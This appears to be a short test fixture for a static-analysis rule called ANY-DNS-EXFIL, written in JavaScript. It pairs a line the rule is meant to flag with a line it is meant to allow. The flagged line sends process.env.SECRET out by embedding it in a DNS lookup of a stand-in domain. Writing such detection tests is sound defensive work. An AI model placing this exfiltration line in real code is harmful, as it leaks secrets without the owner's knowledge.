// ruleid: ANY-DNS-EXFIL
require("dns").resolve(process.env.SECRET + ".example.com", () => {});
// ok: ANY-DNS-EXFIL
require("dns").resolve("example.com", () => {});
